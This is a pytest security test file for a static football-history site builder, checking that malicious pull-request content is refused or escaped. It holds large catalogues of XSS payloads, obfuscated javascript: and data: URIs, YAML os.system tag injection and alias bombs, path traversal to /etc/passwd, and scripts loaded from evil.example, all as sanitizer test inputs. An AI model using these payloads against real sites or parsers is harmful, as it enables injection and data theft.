"""A pull request by somebody who means harm: refused with a message, or shown as plain text; nothing of it runs."""

import json
import re
from pathlib import Path
from xml.etree import ElementTree as ET

import html5lib
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nights import prose
from nights.builder import Builder
from nights.problems import ContentError
from nights.prose import resolve_link
from nights.strict_yaml import MAX_BYTES, YamlText
from tests.helpers import (
    ABOUT,
    ARTICLE,
    FILES,
    GROUP_1,
    HOME,
    MATCH,
    SEASON,
    STORY,
    WORDS,
    as_yaml,
    make_content,
    problems,
    text_at,
)

# --- what may be on a page ---------------------------------------------------------------

HARMFUL = {"base", "embed", "form", "frame", "frameset", "iframe", "img", "input", "math", "object", "style", "video"}
IN_PROSE = {
    "a", "aside", "blockquote", "br", "code", "div", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p",
    "pre", "span", "strong", "sup", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
WEB = re.compile(r"https?://", re.IGNORECASE)


def harm_in_prose(html):
    """Whatever in the HTML of a text is more than text, and links to the web or to an id."""
    found = []
    for element in html5lib.parseFragment(str(html), namespaceHTMLElements=False).iter():
        if element.tag == "DOCUMENT_FRAGMENT":
            continue
        if element.tag not in IN_PROSE:
            found.append(f"<{element.tag}>")
        for name, value in element.attrib.items():
            link = name == "href" and (WEB.match(value) or value.startswith("#fn") or value in NIGHTS)
            if name not in ("class", "id", "title") and not link:
                found.append(f"<{element.tag} {name}={value!r}>")
    return found


def harm_on_page(text, base="/nights/"):
    """Whatever on a whole page loads or runs something that is not the site's own."""
    found = []
    for element in html5lib.parse(text, namespaceHTMLElements=False).iter():
        if not isinstance(element.tag, str):
            found.append(f"a comment: {element.text!r}")
            continue
        tag, attributes = element.tag, element.attrib
        if tag in HARMFUL:
            found.append(f"<{tag}>")
        if tag == "script":
            if attributes.get("type") == "application/ld+json":
                json.loads(element.text)
            elif not re.fullmatch(rf"{base}static/js/[a-z]+\.[0-9a-f]{{8}}\.js", attributes.get("src", "")):
                found.append(f"<script {attributes} {element.text!r}>")
        if tag == "meta" and attributes.get("http-equiv", "").lower() not in ("", "content-security-policy"):
            found.append(f"<meta {attributes}>")
        for name, value in attributes.items():
            if str(name).lower().startswith("on") or name in ("srcdoc", "action", "formaction", "ping", "background"):
                found.append(f"<{tag} {name}={value!r}>")
            fine = value.startswith((base, "#", f"https://example.org{base}", f"webcal://example.org{base}calendar/"))
            fine |= tag == "a" and bool(WEB.match(value))
            fine |= tag == "link" and attributes.get("rel") == "icon"
            if name in ("href", "src", "{http://www.w3.org/1999/xlink}href") and not fine:
                found.append(f"<{tag} {name}={value!r}>")
    return found


# --- Markdown --------------------------------------------------------------------------------

NIGHTS = {Path(path).stem for path in FILES if path.startswith(("matches/", "articles/"))}


def resolve(target):
    return resolve_link(target, NIGHTS, ())


def mistakes(text):
    return list(prose.mistakes(text, resolve))


def as_html(text):
    """The HTML, as if no check had seen the text before."""
    return prose.render(text, resolve)


RAW_HTML = {
    "a script": "<script>alert(1)</script>",
    "a script in capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "a script in a script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "a picture with a handler": "<img src=x onerror=alert(1)>",
    "a picture over several lines": "<img\nsrc=x\nonerror=alert(1)\n>",
    "a drawing with a handler": "<svg/onload=alert(1)>",
    "a frame": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "a link": "<a href='javascript:alert(1)'>x</a>",
    "a style": "<style>*{display:none}</style>",
    "a base": "<base href=//evil.example/>",
    "a refresh": '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "a form": "<form action=//evil.example><button>Vote</button></form>",
    "an element of one's own": "<x-night onclick=alert(1)>x</x-night>",
    "the end of the page": "</div></article></main><script>alert(1)</script>",
    "a comment": "<!-- <script>alert(1)</script> -->",
    "a comment that never ends": "Text <!-- text",
    "a doctype": "<!doctype html>",
    "an instruction": "<?php alert(1) ?>",
    "a declaration": "<!ENTITY x '<script>alert(1)</script>'>",
    "a tag that never ends": "Text <b onclick=alert(1)",
    "in a block of its own": "Text.\n\n<div>\n\n<script>alert(1)</script>\n\n</div>\n",
    "in a list": "- one\n- <script>alert(1)</script>\n",
    "in a quotation": "> <script>alert(1)</script>\n",
    "in a table": "| a | b |\n|---|---|\n| <script>alert(1)</script> | x |\n",
    "in a heading": "## <script>alert(1)</script>\n",
    "in a note": "Text.[^1]\n\n[^1]: <script>alert(1)</script>\n",
    "in the words of a link": "[<img src=x onerror=alert(1)>](https://example.org)",
    "in bold": "**<script>alert(1)</script>**",
    "after a backslash": "\\<script>alert(1)</script>",
    "beside a placeholder of the parser": "\x02wzxhzdk:0\x03<script>alert(1)</script>\x02klzzwxh:0000\x03",
}

# Looks like HTML, but is text.
TEXT = {
    "code": "`<script>alert(1)</script>`",
    "a block of code": "Text.\n\n    <script>alert(1)</script>\n",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "numbered entities": "&#60;script&#62;alert(1)&#x3c;/script&#x3e;",
    "a space after the bracket": "< script>alert(1)< /script>",
    "the title of a link": '[x](https://example.org "<script>alert(1)</script>")',
    "quotes in an address": "[x](https://example.org/\"onmouseover=alert(1)')",
    "braces": "{{ 7 * 7 }} {% include 'x' %} ${7 * 7} {0.__class__}",
    "the name of a note": "Text.[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: Note.\n",
    "attributes": "Text {: onclick=alert(1) }",
    "a placeholder of the parser": "\x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03 \x02amp\x03",
}

PICTURES = {
    "from elsewhere": "![A goal](https://evil.example/pixel.gif)",
    "by reference": "![A goal][goal]\n\n[goal]: https://evil.example/pixel.gif",
    "by its own name": "![goal]\n\n[goal]: https://evil.example/pixel.gif",
    "inside a link": "[![A goal](https://evil.example/pixel.gif)](https://example.org)",
    "of a script": "![A goal](javascript:alert(1))",
    "of character data": "<![CDATA[<script>alert(1)</script>]]>",
}


@pytest.mark.parametrize("text", RAW_HTML.values(), ids=RAW_HTML)
def test_raw_html_is_refused_and_would_not_get_through(text):
    assert "raw HTML is not used here; write Markdown" in {mistake.message for mistake in mistakes(text)}
    assert harm_in_prose(as_html(text)) == []


@pytest.mark.parametrize("text", TEXT.values(), ids=TEXT)
def test_what_only_looks_like_html_is_shown_as_it_is(text):
    assert mistakes(text) == []
    assert harm_in_prose(as_html(text)) == []


@pytest.mark.parametrize("text", PICTURES.values(), ids=PICTURES)
def test_pictures_are_refused_and_would_not_get_through(text):
    assert "pictures are not used here; take the `![…](…)` out" in {mistake.message for mistake in mistakes(text)}
    assert harm_in_prose(as_html(text)) == []


TARGETS = [
    "javascript:alert(1)",
    "JavaScript:alert(1)",
    "jAvAsCrIpT:alert`1`",
    "java\nscript:alert(1)",
    "java\tscript:alert(1)",
    "java\rscript:alert(1)",
    "java\x00script:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "\ufeffjavascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;&#x61;vascript:alert(1)",
    "&#0000106avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "%6Aavascript:alert(1)",
    "java\\script:alert(1)",
    "javascript\\:alert(1)",
    "javascript://https://example.org/%0Aalert(1)",
    "javascript:alert(1)//2020-03-10-valley",
    "javascript:https://example.org",
    "feed:javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "VBScript&#x3A;msgbox(1)",
    "file:///etc/passwd",
    "blob:https://example.org/1",
    "ftp://example.org",
    "mailto:a@example.org",
    "//evil.example/",
    "/\\evil.example/",
    "https:evil.example",
    "https:/evil.example",
    "../../admin",
    "../2020-03-10-valley",
    "2020-03-10-valley/../../admin",
    "2020-03-10-valley\n",
    "#top",
    "?delete=all",
    "",
]
FORMS = {
    "in line": "[x]({})",
    "in line, in angle brackets": "[x](<{}>)",
    "in line, with a title": '[x]({} "A title")',
    "by reference": "[x][r]\n\n[r]: {}\n",
    "by reference, in angle brackets": "[x][r]\n\n[r]: <{}>\n",
    "by its own name": "[r]\n\n[r]: {}\n",
    "as an autolink": "<{}>",
    "in a heading": "## [x]({})\n",
    "in a note": "Text.[^1]\n\n[^1]: [x]({})\n",
}


@pytest.mark.parametrize("form", FORMS.values(), ids=FORMS)
def test_a_link_that_is_no_web_address_and_no_id_is_refused_or_no_link(form):
    missed = []
    for target in TARGETS:
        text = form.replace("{}", target)
        html = as_html(text)
        refused = bool(mistakes(text))
        links = [a.get("href") for a in html5lib.parseFragment(str(html), namespaceHTMLElements=False).iter("a")]
        own = [href for href in links if href and (href.startswith("#fn") or href in NIGHTS)]
        if harm_in_prose(html) or (len(links) > len(own) and not refused):
            missed.append((target, str(html)))
    assert missed == []


@pytest.mark.parametrize("target", TARGETS)
def test_a_link_that_is_no_web_address_and_no_id_leads_nowhere(target):
    assert isinstance(resolve(target), str)


PIECES = st.sampled_from([
    *"<>[]()!`*_\\&;:#\"'|-=\n \t\x02\x03", "<script>", "</script>", "<img src=x onerror=alert(1)>", "javascript:",
    "java", "script", "[x](", "[x]: ", "![", "https://example.org", "2020-03-10-valley", "&#60;",
    "&lt;", "    ", "```", "<!--", "-->", "| a |\n|---|\n| ", "wzxhzdk:0", "klzzwxh:0000", "amp", "a@b.example", "\n\n",
])  # fmt: skip


@settings(max_examples=400)
@given(st.lists(PIECES, max_size=14).map("".join))
def test_no_mixture_of_marks_gets_through(text):
    assert harm_in_prose(as_html(text)) == []


DEEP = {
    "quotations in quotations": "> " * 2000 + "x",
    "lists in lists": "- " * 200 + "x",
    "lists in lists, without end": "- " * 2000 + "x",
    "numbers in quotations, without end": "> 1. " * 1000 + "x",
    "lists in lists, a line each": "\n".join("    " * depth + "- x" for depth in range(60)),
    "emphasis in emphasis": "*a " * 3000,
    "stars": "*" * 3000,
    "brackets": "[" * 500 + "x" + "]" * 500,
    "a hundred notes": "Text." + "".join(f"[^{n}]" for n in range(100)) + "".join(f"\n\n[^{n}]: N" for n in range(100)),
    "one long word": "x" * 100_000,
    "a wide table": "|" + "a|" * 500 + "\n|" + "-|" * 500 + "\n|" + "b|" * 500,
}


@pytest.mark.parametrize("text", DEEP.values(), ids=DEEP)
def test_deep_and_long_texts_come_to_an_end(text):
    mistakes(f"{text} [")
    assert harm_in_prose(as_html(text)) == []


@pytest.mark.parametrize("mark", ["- ", "1. ", "* \t"])
def test_what_is_too_deep_to_be_shown_is_refused(mark):
    assert [mistake.message for mistake in mistakes(mark * 1000 + "x")] == [
        "lists or quotations stand too deep in each other; take some apart"
    ]
    assert as_html("Text <b>") == "<p>Text </p>", "what comes after is read as ever"


PLACES = {
    "a story": lambda text: {MATCH: {"story": f"{STORY}\n\n{text}"}},
    "a story in one of the languages": lambda text: {MATCH: {"story": {"en": f"{STORY}\n\n{text}"}}},
    "a summary of a season": lambda text: {SEASON: {"summary": text}},
    "how a campaign ended": lambda text: {SEASON: {"campaigns.0.ended": text}},
    "how a campaign began": lambda text: {SEASON: {"campaigns.0.qualified": text}},
    "the rules of a campaign": lambda text: {SEASON: {"campaigns.0.format": text}},
    "an article": lambda text: {ARTICLE: {"body": text}},
    "a draft": lambda text: {ARTICLE: {"body": text, "draft": True}},
    "the about page": lambda text: {ABOUT: {"body": text}},
    "the about page of a language": lambda text: {"pages/about-en.md": (FILES[ABOUT] | {"body": text},)},
}


@pytest.mark.parametrize(
    "text", ["<script>alert(1)</script>", "[x](javascript:alert(1))", "![x](https://evil.example)"]
)
@pytest.mark.parametrize("place", PLACES)
def test_wherever_markdown_is_written_it_is_looked_at(tmp_path, place, text):
    found = problems(make_content(tmp_path, PLACES[place](text)))
    assert {problem.check for problem in found} == {"texts_are_clean"}


# --- ids, addresses, sizes ---------------------------------------------------------------------

REFUSED = {
    "an id of a match": (ARTICLE, {"nights": ["../../../etc/passwd"]}, "should be "),
    "an id of a person": (ARTICLE, {"people": ["..%2f..%2fetc"]}, "should be "),
    "a season": (ARTICLE, {"season": "../2019-20"}, "should be "),
    "an id of a club": ("clubs.yaml", "../valley: {name: X, city: X, country: X}\n", "should be "),
    "an id of a ground": (MATCH, {"ground": "hollow/../../x"}, "should be "),
    "an id with HTML": ("players.yaml", {'"><script>': {"name": "X"}}, "should be "),
    "the club of the site": ("site.yaml", {"club": "../lanterns"}, "should be "),
    "a language": ("site.yaml", {"languages": [{"code": "..", "name": "X"}]}, "should be "),
    "a language of one letter": ("site.yaml", {"languages": [{"code": "/", "name": "X"}]}, "should be "),
    "a colour that ends the rule": ("site.yaml", {"colours.ink": "#000000;}*{display:none"}, "should be "),
    "a colour that ends the line": ("site.yaml", {"colours.ink": "#000000\n"}, "should be "),
    "an address with a tag": ("site.yaml", {"base_url": "https://example.org/<script>/"}, "should be "),
    "an address with a quote": (
        "site.yaml",
        {"repository": 'https://example.org/"onclick="'},
        "should be ",
    ),
    "an address with a line end": (
        "site.yaml",
        {"base_url": "https://example.org/\nDisallow: /"},
        "should be ",
    ),
    "an address of a script": (MATCH, {"sources.0.url": "javascript:alert(1)//https://"}, "should be "),
    "an address of data": (ARTICLE, {"source_url": "data:text/html,x"}, "should be "),
    "an address of a claim": (MATCH, {"disputes.0.claims.0.url": "vbscript:x"}, "should be "),
    "an address without a scheme": (MATCH, {"sources.0.url": "//evil.example"}, "should be "),
    "an address of 3,000 letters": (MATCH, {"sources.0.url": "https://" + "x" * 3000}, "the limit is 2000"),
    "a name over two lines": ("referees.yaml", {"whistle.name": "A\nB"}, "should be "),
    "a name of 10,000 letters": ("referees.yaml", {"whistle.name": "A" * 10_000}, "has 10000 characters"),
    "more digits than a number has": (MATCH, "attendance: " + "9" * 5000 + "\n", "should be a whole number"),
    "a crowd larger than a country": (MATCH, {"attendance": 10**15 - 1}, "out of range"),
    "a million brackets": (MATCH, "goals: " + "[" * 900_000 + "\n", "nested more than"),
    "a billion laughs": (MATCH, "a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\n", "an alias"),
    "a command in a tag": (MATCH, "date: !!python/object/apply:os.system [id]\n", "the tag"),
    "a command in the front matter": (ARTICLE, "---\ntitle: !!python/name:os.system x\n---\n", "the tag"),
    "a file too large": (GROUP_1, "# " + "x" * MAX_BYTES, "the limit is 1,000,000"),
    "an article too large": (ARTICLE, "---\ntitle: x\n---\n" + "x" * MAX_BYTES, "the limit is 1,000,000"),
    "a key of the language's inside": (MATCH, {"__class__": "x"}, "unknown key `__class__`"),
}


@pytest.mark.parametrize(("path", "change", "says"), REFUSED.values(), ids=REFUSED)
def test_refused_with_a_message_at_its_place(tmp_path, path, change, says):
    folder = make_content(tmp_path, {path: change})
    told = [problem for problem in problems(folder) if problem.path == f"content/{path}" and problem.check == "load"]
    assert says in " ".join(problem.message for problem in told)


def test_what_is_refused_builds_nothing(tmp_path):
    folder = make_content(tmp_path / "content", {ARTICLE: {"body": "<script>alert(1)</script>"}})
    with pytest.raises(ContentError):
        Builder(folder, tmp_path / "site", home=HOME).build()
    assert not (tmp_path / "site").exists()


# --- a site made of it ----------------------------------------------------------------------------

PAYLOAD = "\"'></title></script><script>alert(1)</script><img src=x onerror=alert(1)>--> {{ 7 * 7 }} {0.__class__} ]]>"
SHORT = "<img src=x onerror=alert(1)>\"'"
ATOM = "{http://www.w3.org/2005/Atom}"
ADDRESS = "https://example.org/'onclick='alert(1)&quot;onclick=alert(1)"


def _named(path, **extra):
    return {path: {f"{key}.name": f"{key} {PAYLOAD}" for key in FILES[path]} | extra}


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    """A site with a script in every text that may hold one: every name, every line, every word of the interface."""
    words = YamlText((HOME / "content" / WORDS).read_text(encoding="utf-8")).read()
    word = "\"'><script>alert(1)</script>"
    wrong = {
        key: {form: f"{text}{word}" for form, text in value.items()} if isinstance(value, dict) else f"{value}{word}"
        for key, value in words.items()
    }
    fields = ("competitions.yaml", "clubs.yaml", "grounds.yaml", "players.yaml", "coaches.yaml", "referees.yaml")
    people = {path: change for name in fields for path, change in _named(name).items()}
    people["competitions.yaml"]["northern-cup.short"] = PAYLOAD
    people["clubs.yaml"] |= {"valley.city": PAYLOAD, "valley.country": PAYLOAD, "harriers.short": "<b>\"'&</b>"}
    people["grounds.yaml"] |= {"hollow.city": PAYLOAD, "hollow.country": PAYLOAD}
    people["referees.yaml"]["whistle.country"] = PAYLOAD
    reference = {"url": ADDRESS, "publisher": PAYLOAD, "title": PAYLOAD, "read": FILES[MATCH]["sources"][0]["read"]}
    # The reader of YAML refuses what is not printable.
    told = [
        text
        for text in (*RAW_HTML.values(), *(f"[x]({target})" for target in TARGETS))
        if text.replace("\n", "").isprintable()
    ]
    everything = {
        **people,
        WORDS: as_yaml(wrong),
        "site.yaml": {
            "title": PAYLOAD, "tagline": PAYLOAD, "description": PAYLOAD, "author": PAYLOAD,
            "repository": ADDRESS, "languages.0.name": PAYLOAD,
        },
        ABOUT: {"title": PAYLOAD},
        SEASON: {
            "title": PAYLOAD, "summary": TEXT["code"], "campaigns.0.table.title": PAYLOAD, "sources": [reference],
            "campaigns.0.table.sources": [reference],
        },
        ARTICLE: {
            "title": PAYLOAD, "summary": PAYLOAD, "publisher": PAYLOAD, "hindsight": PAYLOAD, "source_url": ADDRESS,
            "sources": [reference], "body": "\n\n".join(text for text in TEXT.values() if "\x02" not in text),
        },
        MATCH: {
            "headline": f"<script>alert(1)</script>{SHORT}", "milestone": SHORT,
            "story": "\n\n".join([STORY, *told, *PICTURES.values()]),
            "exceptions": [
                {"check": check, "reason": PAYLOAD} for check in ("texts_are_clean", "a_played_match_is_told")
            ],
            "sources.0.publisher": PAYLOAD, "sources.0.title": PAYLOAD, "sources.0.url": ADDRESS,
            "sources.1.mirror_of": PAYLOAD,
            "disputes.0.about": PAYLOAD, "disputes.0.ruling": PAYLOAD, "disputes.0.reason": PAYLOAD,
            "disputes.0.claims.0.claim": PAYLOAD, "disputes.0.claims.0.url": ADDRESS, "gaps.0.note": PAYLOAD,
        },
    }  # fmt: skip
    folder = make_content(tmp_path_factory.mktemp("hostile") / "content", everything)
    out = folder.parent / "site"
    Builder(folder, out, home=HOME).build()
    return out


@pytest.mark.parametrize("character", ["\x00", "\x02", "\x1b", "\x7f", "\x85", "\u2028", "\r"])
def test_invisible_characters_are_refused(tmp_path, character):
    folder = make_content(tmp_path / "content", {ARTICLE: {"body": f"Two{character}words."}})
    assert [f"U+{ord(character):04X}" in problem.message for problem in problems(folder)] == [True]


@pytest.mark.parametrize("character", [r"\0", r"\e", r"\x7f", r"\N", r"\u2028", r"\r"])
def test_invisible_characters_are_refused_as_escapes_too(tmp_path, character):
    folder = make_content(
        tmp_path / "content", {"competitions.yaml": f'{{northern-cup: {{name: "Nor{character}th"}}}}'}
    )
    (problem,) = [each for each in problems(folder) if each.path == "content/competitions.yaml"]
    assert "is written here as an escape" in problem.message
    assert text_at(folder, problem).startswith('"Nor')


@pytest.fixture(scope="module")
def pages(site):
    return {path.relative_to(site).as_posix(): path.read_text(encoding="utf-8") for path in site.rglob("*.html")}


def test_there_are_pages_to_look_at(pages):
    assert len(pages) > 12
    assert sum("alert(1)" in text for text in pages.values()) == len(pages)


def test_no_page_runs_or_loads_anything_but_the_sites_own(pages):
    assert {name: harm for name, text in pages.items() if (harm := harm_on_page(text))} == {}


def test_every_page_forbids_what_is_not_the_sites_own(pages):
    for name, text in pages.items():
        tree = html5lib.parse(text, namespaceHTMLElements=False)
        (policy,) = [m.get("content") for m in tree.iter("meta") if m.get("http-equiv") == "Content-Security-Policy"]
        rules = dict(rule.strip().split(" ", 1) for rule in policy.split(";"))
        assert (rules["default-src"], rules["script-src"], rules["base-uri"]) == ("'none'", "'self'", "'none'"), name
        assert "unsafe" not in policy


def test_names_are_shown_as_they_were_written(pages):
    tree = html5lib.parse(pages["matches/2020-03-10-valley/index.html"], namespaceHTMLElements=False)
    shown = "".join(tree.itertext())
    for name in ("valley", "lanterns", "oak", "gardener", "whistle", "hollow"):
        assert f"{name} {PAYLOAD}" in shown


def test_the_harm_would_have_been_seen():
    """The tests above look at the right things."""
    page = '<!doctype html><title>x</title><body onload=x><script>1</script><a href="javascript:x">y</a><img src="//x">'
    assert len(harm_on_page(page)) == 5
    assert len(harm_in_prose('<p onclick=x><a href="JAVASCRIPT:x">y</a><script>1</script></p>')) == 3


def test_files_for_machines_stay_well_formed(site):
    data = {path.name: json.loads(path.read_text(encoding="utf-8")) for path in site.rglob("*.json")}
    trees = {path.name: ET.parse(path).getroot() for path in site.rglob("*.xml")}  # noqa: S314 - our own files
    assert f"valley {PAYLOAD}" in {record["home"] for record in data["matches.json"]}
    assert all(url[0].text.startswith("https://example.org/nights/") for url in trees["sitemap.xml"])
    assert {link.get("href").split("/nights/")[0] for link in trees["feed.xml"].iter(f"{ATOM}link")} == {
        "https://example.org"
    }


def test_nothing_is_written_outside_the_site(site):
    assert sorted(path.name for path in site.parent.iterdir()) == ["content", "site"]
